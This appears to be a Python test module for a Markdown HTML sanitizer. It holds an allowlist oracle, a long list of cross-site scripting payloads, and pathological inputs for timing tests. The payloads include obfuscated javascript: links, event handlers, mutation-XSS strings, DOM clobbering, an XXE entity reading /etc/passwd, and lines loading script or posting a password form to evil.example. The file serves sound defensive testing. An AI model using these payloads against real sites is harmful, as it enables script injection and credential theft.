"""Hostile bodies, and the oracle that says whether html is safe.

The oracle reads html with Python's own parser, which shares no code with the sanitizer, and knows only what is allowed.
"""

import re
from html.parser import HTMLParser

_BARE = (
    "p h2 h3 h4 h5 h6 ul dl dt dd blockquote pre code kbd samp var hr br wbr em strong b i u s small mark sub q cite "
    "figure figcaption table caption thead tbody tfoot tr bdi bdo span ruby rb rt rp"
)
ALLOWED: dict[str, set[str]] = {
    **{tag: set() for tag in _BARE.split()},
    "a": {"href", "title", "hreflang", "rel", "class"},
    "abbr": {"title"},
    "col": {"span"},
    "colgroup": {"span"},
    "del": {"datetime"},
    "dfn": {"title"},
    "div": {"class"},
    "img": {"src", "alt", "title", "width", "height"},
    "ins": {"datetime"},
    "li": {"value", "id"},
    "ol": {"start", "reversed"},
    "sup": {"id"},
    "table": {"tabindex"},
    "td": {"colspan", "rowspan", "align"},
    "th": {"colspan", "rowspan", "scope", "align"},
    "time": {"datetime"},
}
_CLASSES = {"footnote", "footnote-ref", "footnote-backref"}
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)


def read_as_browsers_do(address: str) -> str:
    """An address without what browsers take no notice of (WHATWG URL: controls and blanks around, tabs and newlines)."""
    return re.sub(r"[\t\n\r]", "", address.strip("".join(map(chr, range(33))))).replace("\\", "/")


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.complaints: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.complaints.append(f"<{tag}>")
            return
        for name, value in attrs:
            if name not in ALLOWED[tag] | {"lang", "dir"}:
                self.complaints.append(f"<{tag} {name}>")
            self._look_at(tag, name, value or "")

    def _look_at(self, tag: str, name: str, value: str) -> None:
        if name == "id" and not value.startswith(("fn:", "fnref")):
            self.complaints.append(f"id={value}")
        if name == "class" and not set(value.split()) <= _CLASSES:
            self.complaints.append(f"class={value}")
        if name == "tabindex" and value != "0":
            self.complaints.append(f"tabindex={value}")
        if name in ("href", "src"):
            address = read_as_browsers_do(value)
            scheme = _SCHEME.match(address)
            allowed = {"http", "https", "mailto"} if name == "href" else set[str]()
            if (scheme and scheme.group(1).lower() not in allowed) or address.startswith("/"):
                self.complaints.append(f"{name}={value}")

    def handle_comment(self, data: str) -> None:
        self.complaints.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.complaints.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.complaints.append("processing instruction")

    def unknown_decl(self, data: str) -> None:
        self.complaints.append("declaration")


def complaints(markup: str) -> list[str]:
    """What in this html is not allowed."""
    inspector = _Inspector()
    inspector.feed(markup)
    inspector.close()
    return inspector.complaints


# `pwn()` stands for whatever an attacker would run.
PAYLOADS = (
    # scripts
    "<script>pwn()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<script\x00>pwn()</script>",
    "text <script>pwn() text",
    "<div>\n\n<script>\n\npwn()\n\n</script>\n\n</div>",
    "`<script>pwn()</script>` and <noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    # event handlers
    "<img src=x onerror=pwn()>",
    "<img src=x onerror\n=\npwn()//",
    '<img src="x` `<script>pwn()</script>"` `>',
    "<b onmouseover=pwn()>b</b>",
    "<p/onclick=pwn()>p",
    '<a title="\n\nonclick=pwn()">x</a>',
    "<details open ontoggle=pwn()>x</details>",
    '![" onerror="pwn()](x "t\\" onerror=pwn()")',
    "[x](http://a.example/ 't' onclick='pwn()')",
    '<http://a.example/"onclick="pwn()>',
    # addresses that run
    "[x](javascript:pwn())",
    "[x](JaVaScRiPt:pwn())",
    "[x]( javascript:pwn())",
    "[x](\x01javascript:pwn())",
    "[x](java\tscript:pwn())",
    "[x](java\nscript:pwn())",
    "[x](<java\nscript:pwn()>)",
    "[x](javascript&colon;pwn())",
    "[x](&#106;avascript:pwn())",
    "[x](&#x6A&#x61;vascript:pwn())",
    "[x](javascript&#58pwn())",
    "[x](java&Tab;script:pwn())",
    "[x](java&NewLine;script:pwn())",
    "[x](\\javascript:pwn())",
    "[x](/javascript:pwn())",
    "[x](/\\javascript:pwn())",
    "[x](/ javascript:pwn())",
    "[x](/\tjavascript:pwn())",
    "[x][y]\n\n[y]: javascript:pwn()",
    "[x][y]\n\n[y]:\n  <javascript:pwn()>",
    "<javascript:pwn()>",
    "<javascript://a.example/%0apwn()>",
    "[x](vbscript:pwn())",
    "[x](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml,<svg/onload=pwn()>)",
    "<a href='javascript:pwn()'>x</a>",
    '<a href="&#x6a;avascript&colon;pwn()">x</a>',
    "<a href=' \x0cjavascript:pwn()'>x</a>",
    "<a href=view-source:http://a.example>x</a> <a href=file:///etc/passwd>x</a> <a href=blob:x>x</a>",
    "<a href=x ping=//evil.example target=_top>x</a>",
    "[x](//evil.example/) [x](\\\\evil.example/) [x](/\\evil.example) [x](///evil.example)",
    # other documents inside this one
    "<iframe src=javascript:pwn()></iframe>",
    "<iframe srcdoc='<script>pwn()</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=x><applet code=x>",
    "<frameset onload=pwn()><frame src=x>",
    "<portal src=x></portal>",
    # that change the page around
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0;background:url(javascript:pwn())'>x</p>",
    "<div class=header id=search>x</div>",
    "</div></article></body></html><h1>Another page",
    "<body onload=pwn() background=x><html manifest=x>",
    "<table background=javascript:pwn()><td background=x>x",
    "<title>x</title><textarea><img src=x onerror=pwn()></textarea>",
    "<plaintext>x",
    "<xmp><img src=x onerror=pwn()></xmp>",
    # forms
    "<form action=//evil.example><input name=password type=password><button formaction=javascript:pwn()>x</button></form>",
    "<form id=f><input form=f name=attributes></form><isindex type=image src=1 onerror=pwn()>",
    "<select><option><style></select><img src=x onerror=pwn()></style>",
    # names that scripts of the page would stumble over
    "<a id=document></a><img name=getElementById><form name=body></form>",
    "<li id=location>x</li><sup id=fnx>x</sup>",
    "x[^constructor]\n\n[^constructor]: y",
    'x[^"><img src=x onerror=pwn()>]\n\n[^"><img src=x onerror=pwn()>]: y',
    # svg, mathml, and trees that change when they are parsed again
    "<svg onload=pwn()><script>pwn()</script></svg>",
    "<svg><a xlink:href=javascript:pwn()><text>x</text></a></svg>",
    "<svg><animate onbegin=pwn() attributeName=x></svg>",
    "<svg><use href=data:image/svg+xml,x></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwn()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwn()&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>pwn()</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=pwn() src>'>",
    "<noscript><style></noscript><img src=x onerror=pwn()>",
    "<template><img src=x onerror=pwn()></template>",
    "<table><tr><td><svg><desc><td><img src=x onerror=pwn()>",
    "<a title='<img src=//evil.example onerror=pwn()>'>x</a>",
    "<img alt='<img src=//evil.example>' src='http://evil.example/\"><script>pwn()</script>'>",
    "<a href='x'><img src='http://evil.example/p.png' alt='</a><script>pwn()</script>'></a>",
    # comments and declarations
    "<!--><img src=x onerror=pwn()>-->",
    "<!---><img src=x onerror=pwn()>-->",
    "<!-- --!><img src=x onerror=pwn()> -->",
    "<![CDATA[<script>pwn()</script>]]>",
    "<![if true]><script>pwn()</script><![endif]>",
    "<!--[if gte IE 4]><script>pwn()</script><![endif]-->",
    "<?xml-stylesheet href=javascript:pwn()?><?php pwn() ?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    # the marks that Python-Markdown keeps for itself
    "\x02wzxhzdk:0\x03<b>x</b>\x02klzzwxh:0000\x03",
    "&#2;wzxhzdk:0&#3;<b>x</b>",
    "\x0260\x03script\x0262\x03pwn()",
    "```py onload=pwn()\nx\n```",
    '```{.py onload="pwn()" #location}\nx\n```',
    "| a |\n|---|\n| <script>pwn()</script> |",
    "<p markdown=1><script>pwn()</script></p>",
    "{: onclick=pwn() } {{ 7*7191 }} {% include 'x' %} ${7*7191} <%= 7*7191 %>",
)

# What Python-Markdown is slow at, or would be if it were not guarded: each part is written again and again.
PARTS = (
    *"\\`*_{}[]()<>#+-.!|~=&:;'\"^/@ \t\n",
    *"[]( [a]( ![ ![a]( [a](( [a](< [a](b'c [[]( [x][y] *[a]( [[a]] [a][b [^ [^a] ]( ](b) \\[ \\* *a* **a* ***a* _a*".split(),
    *"<a <a> </a> <a/> <![ <!-- <!---> --> <? <?a?> <! <% </ <> <![CDATA[ ]]> <br> <img> <div> </div> <svg> <a@b".split(),
    *"&# &#1 &#1; &a; &amp &lt; `a` ``a` `\\ `| || |- ```a ~~~ --- === ___ *** a_b a*b <http://a> <a@b>".split(),
    *(
        "a ",
        "*a ",
        "**a ",
        "_a ",
        "__a ",
        "*a _b ",
        "a* ",
        "*a b* ",
        "> ",
        "- ",
        "* ",
        "+ ",
        "1. ",
        "1. - ",
        "> - ",
        ": ",
    ),
    *("<a ", '<a "', "<a b='", "<a b=c ", "<b title=a>", "<b><p>", "<ul><li>", "<table><td>", "<b><!-- a -->", "a<b "),
    *(
        "a\n",
        "a \n",
        "a  \n",
        "> a\n",
        ">\n",
        "- a\n",
        "* \n",
        "1. a\n",
        "- a\n1. b\n",
        "# a\n",
        "#a\n",
        "a\n=\n",
        "a\n-\n",
    ),
    *(
        "a\n---\n",
        "---\n",
        "- - -\n",
        "```\n",
        "```a\n",
        "~~~ {\n",
        "~~~~\n~~~\n",
        "|a|b|\n",
        "|-|-|\n",
        "[a\n",
        "[a]: b\n",
    ),
    *(
        "a\n\n",
        "> a\n\n",
        "a\n> b\n\n",
        "- a\n\n",
        "- a\n\n    b\n\n",
        "    a\n\n",
        "# a\n\n",
        "a\n: b\n\n",
        ": b\n",
        "a\n: b\n",
    ),
    *(
        "[a]: b\n\n",
        "[a]: b\nc\n",
        "[a]: b\n'c\n",
        "[^a]: b\n",
        "[^a]: b\n\n",
        "[^a] ",
        "[x] [",
        "[a] (b) ",
        "<div>\n\n",
        "<p>\n",
    ),
)


def slow(count: int) -> dict[str, str]:
    """Bodies of `count` parts, by name: the parts above, and shapes that only grow as a whole."""
    numbers = range(count)
    side = int(count**0.5) * 3
    return {
        **{repr(part): part * count for part in PARTS},
        "brackets in brackets": "[" * count + "]" * count,
        "links in links": "[" * count + "](b)" * count,
        "stars that all match": "*a " * count + "b* " * count,
        "footnotes": "".join(f"a[^{n}] " for n in numbers) + "\n\n" + "".join(f"[^{n}]: b\n" for n in numbers),
        "one footnote, many marks": "a[^1] " * count + "\n\n[^1]: b\n",
        "references": "".join(f"[a][{n}] " for n in numbers) + "\n\n" + "".join(f"[{n}]: b\n" for n in numbers),
        "references between lines": "".join(f"[{n}]: b\nc\n" for n in numbers),
        "runs of backticks, all different": " ".join("`" * n for n in range(side)),
        "a row of pipes and backticks": "a|b\n-|-\n" + "`|` " * count + "|c",
        "a wide table": "|a" * count + "|\n" + "|-" * count + "|\n" + "|b" * count + "|",
        "a wide table of short rows": "|a" * side + "|\n" + "|-" * side + "|\n" + "|b|\n" * side,
        "a long table": "a|b\n-|-\n" + "c|d\n" * count,
        "definitions of one word": "a\n" + ": b\n" * count,
        "tags in tags": "<div>" * count + "</div>" * count,
        "tags that stay open over paragraphs": "".join(f"<b title={n}>" for n in range(side)) + "a\n\n" * count,
        "an open tag and comments": "<b>" * side + "<!-- a -->" * count,
        "a tag of many attributes": "<p " + "".join(f"a{n}=1 " for n in numbers) + ">",
        "a number of many digits": f"<p title='&#{'1' * count};'>a</p>",
        "a list deep down": "".join("    " * n + "- a\n" for n in range(min(count, 400))),
        "blank lines": "a" + "\n" * count + "*b*",
        "blanks": "*a*" + " " * count + "b\n" + " " * count,
        "tabs": "*a*" + "\t" * count + "b\n" + "\t" * count,
    }
